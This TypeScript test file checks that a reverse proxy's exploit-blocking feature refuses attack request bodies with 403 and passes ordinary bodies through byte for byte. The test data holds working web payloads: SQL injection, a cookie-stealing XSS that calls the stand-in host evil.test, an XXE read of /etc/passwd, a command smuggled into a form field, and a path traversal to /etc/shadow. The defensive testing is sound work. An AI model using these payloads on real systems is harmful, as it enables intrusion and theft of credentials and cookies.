import http from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startBackend, type Backend, type EchoResponse } from "@/test-support/backend";
import { ORDINARY_BODIES } from "@/test-support/ordinary-bodies";
import { startProxyOnDatabase, type ProxyOnDatabase } from "@/test-support/proxy-on-database";
import type { ProxyProcess } from "@/test-support/proxy-process";

/**
 * "Block common exploits" reads request bodies through the real proxy: an attack in a JSON, form,
 * XML or multipart body is refused before the upstream sees anything of the request, and ordinary
 * bodies, large ones included, arrive byte for byte.
 */
let product: ProxyOnDatabase;
let proxy: ProxyProcess;
let backend: Backend;

beforeAll(async () => {
  backend = await startBackend({ name: "guarded" });
  product = await startProxyOnDatabase({ workers: 2 });
  proxy = product.proxy;
  await product.addSite({
    name: "Guarded",
    hostnames: ["guarded.test"],
    upstreams: [{ url: backend.url }],
    // No health checks: the backend's request count is then the proxied requests alone.
    healthCheck: { enabled: false },
    blockExploits: true,
  });
}, 60_000);

afterAll(async () => {
  await product?.close();
  await backend?.close();
});

function post(headers: http.OutgoingHttpHeaders, body: Buffer | string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: "127.0.0.1", port: proxy.httpPort, method: "POST", path: "/submit", headers: { host: "guarded.test", ...headers }, agent: false },
      (response) => {
        const chunks: Buffer[] = [];
        response.on("data", (chunk: Buffer) => chunks.push(chunk));
        response.on("end", () => resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString("utf8") }));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

const boundary = "----formboundary7MA4YWxk";
const multipart = (field: string, value: string) =>
  `--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--${boundary}--\r\n`;

describe("request bodies", () => {
  it.each([
    ["JSON", { "content-type": "application/json" }, JSON.stringify({ search: "x' UNION SELECT username, password FROM users--" })],
    [
      "a form",
      { "content-type": "application/x-www-form-urlencoded" },
      "comment=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
    ],
    ["XML", { "content-type": "application/xml" }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ["multipart", { "content-type": `multipart/form-data; boundary=${boundary}` }, multipart("host", "127.0.0.1; cat /etc/passwd")],
    ["chunked JSON", { "content-type": "application/json", "transfer-encoding": "chunked" }, JSON.stringify({ file: "../../../../etc/shadow" })],
  ])("refuses an attack in %s with 403 before the upstream sees the request", async (_kind, headers, body) => {
    const before = backend.received();
    const answer = await post(headers, body);
    expect(answer.status).toBe(403);
    expect(backend.received()).toBe(before);
  });

  it("lets every ordinary body through, byte for byte", async () => {
    for (const ordinary of ORDINARY_BODIES) {
      const answer = await post(ordinary.headers, ordinary.body);
      expect(answer.status, ordinary.title).toBe(200);
      // The echo backend reads bodies as UTF-8 text: compare the same way.
      expect((JSON.parse(answer.text) as EchoResponse).body, ordinary.title).toBe(ordinary.body.toString("utf8"));
    }
  });

  it("streams a body larger than the inspected part through whole", async () => {
    const big = JSON.stringify({ notes: "lorem ipsum dolor sit amet ".repeat(20_000) });
    const answer = await post({ "content-type": "application/json" }, big);
    expect(answer.status).toBe(200);
    expect((JSON.parse(answer.text) as EchoResponse).body).toBe(big);
  });
});
